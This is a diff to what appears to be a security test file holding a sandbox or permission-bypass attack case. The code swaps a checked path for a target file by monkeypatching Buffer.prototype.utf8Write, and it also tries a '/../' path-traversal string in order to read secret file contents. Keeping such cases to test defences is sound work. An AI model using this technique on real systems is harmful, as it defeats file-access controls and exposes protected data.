@@ -12,8 +12,8 @@ export const attack: Attack = {
     const fs = require('fs')
     exports.main = ({ file }) => {
       const original = Buffer.prototype.utf8Write
-      Buffer.prototype.utf8Write = function (text, ...rest) { return original.call(this, text.includes('piscina') ? file : text, ...rest) }
-      const innocent = require.resolve('piscina')
+      Buffer.prototype.utf8Write = function (text, ...rest) { return original.call(this, text === innocent ? file : text, ...rest) }
+      const innocent = process.argv[1]
       const got = []
       for (const path of [innocent, Buffer.from(innocent + '/../'.repeat(30) + file)]) try { got.push(fs.readFileSync(path, 'utf8').includes('secret')) } catch (error) { got.push(error.code) }
       Buffer.prototype.utf8Write = original
